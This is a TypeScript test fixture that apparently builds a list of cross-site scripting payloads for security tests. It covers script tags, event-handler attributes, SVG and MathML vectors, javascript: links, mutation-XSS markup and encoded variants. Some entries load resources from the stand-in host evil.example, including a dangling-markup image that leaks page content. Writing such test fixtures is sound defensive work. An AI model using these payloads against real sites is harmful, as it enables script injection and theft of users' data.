// What is refused elsewhere is what is tried here.
// oxlint-disable no-script-url
// SCRIPT stands for something that can be observed, different for each payload.
const templates = [
  // Scripts, and what a payload may have to get out of first.
  '<script>SCRIPT</script>',
  '<ScRiPt>SCRIPT</sCrIpT>',
  '"><script>SCRIPT</script>',
  "'><script>SCRIPT</script>",
  '</title><script>SCRIPT</script>',
  '</textarea><script>SCRIPT</script>',
  '</script><script>SCRIPT</script>',
  '<!--><script>SCRIPT</script>-->',
  '<script src=data:,SCRIPT></script>',
  // Elements that report something by themselves.
  '<img src=x onerror=SCRIPT>',
  '<IMG SRC=x oNeRrOr=SCRIPT>',
  '"><img src=x onerror=SCRIPT>',
  '<img src="x"onerror="SCRIPT">',
  '<img/src/onerror=SCRIPT>',
  '<image href=x onerror=SCRIPT>',
  '<video><source onerror=SCRIPT></video>',
  '<audio src=x onerror=SCRIPT></audio>',
  '<details open ontoggle=SCRIPT>x</details>',
  '<marquee onstart=SCRIPT>x</marquee>',
  '<body onload=SCRIPT>',
  '<input autofocus onfocus=SCRIPT>',
  '<q tabindex=1 onfocus=SCRIPT onmouseover=SCRIPT>x</q>',
  // SVG and MathML.
  '<svg onload=SCRIPT>',
  '<svg/onload=SCRIPT>',
  '<svg><script>SCRIPT</script></svg>',
  '<svg><animate onbegin=SCRIPT attributeName=x dur=1s>',
  '<svg><a xlink:href=javascript:SCRIPT><text y=9>x</text></a></svg>',
  '<math href=javascript:SCRIPT>x</math>',
  // Other documents.
  '<iframe src=javascript:SCRIPT></iframe>',
  '<iframe srcdoc="<script>SCRIPT</script>"></iframe>',
  '<iframe srcdoc=&lt;img/src=x/onerror=SCRIPT&gt;></iframe>',
  '<object data=javascript:SCRIPT></object>',
  '<embed src=javascript:SCRIPT>',
  // Links and forms.
  '<a href=javascript:SCRIPT>x</a>',
  '<a href="jav&#x09;ascript:SCRIPT">x</a>',
  'javascript:SCRIPT',
  'JaVaScRiPt:SCRIPT//https://x.example',
  'data:text/html,<script>SCRIPT</script>',
  '<form action=javascript:SCRIPT><button>x</button></form>',
  '<button formaction=javascript:SCRIPT>x</button>',
  // Attributes that are closed too early.
  '" onmouseover=SCRIPT x="',
  "' onfocus=SCRIPT autofocus tabindex=1 x='",
  // The page itself and what it loads.
  '<meta http-equiv=refresh content="0;url=javascript:SCRIPT">',
  '<base href=https://evil.example/>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  "<style>@import'https://evil.example/x.css';</style>",
  "<img src='https://evil.example/?",
  '}</style><svg onload=SCRIPT>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  // Markup that changes its meaning when it is read again.
  '<noscript><p title="</noscript><img src=x onerror=SCRIPT>">',
  '<svg><style><img src=x onerror=SCRIPT></style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=SCRIPT>',
  // Written in ways that somebody may decode.
  '&lt;img src=x onerror=SCRIPT&gt;',
  '&#60;script&#62;SCRIPT&#60;/script&#62;',
  '%3Cscript%3ESCRIPT%3C/script%3E',
  '\\u003cscript\\u003eSCRIPT\\u003c/script\\u003e',
  '\uff1cscript\uff1eSCRIPT\uff1c/script\uff1e',
  // Templates and Markdown.
  "{{constructor.constructor('SCRIPT')()}}",
  '${SCRIPT}',
  '[x](javascript:SCRIPT)',
]

/** Texts that run as a script, or ask another server for something, where one becomes markup, code or an address. */
export const payloads: string[] = templates.map((template, index) =>
  template.replaceAll('SCRIPT', index % 2 === 0 ? `alert(${index})` : `__xss=${index}`),
)

/** What the owner, the workspace and the browser are called. */
export const ownName = payloads[11] ?? ''

/** One that fits where only 20 characters do. */
export const shortPayload = '<svg/onload=alert()>'

/** An address that the product takes for one, with as much of the payload in it as an address may have. */
export function emailWith(payload: string, domain: string): string {
  return `${payload.replaceAll(/\s+/g, '/').replaceAll('@', '')}@${domain}`.toLowerCase()
}
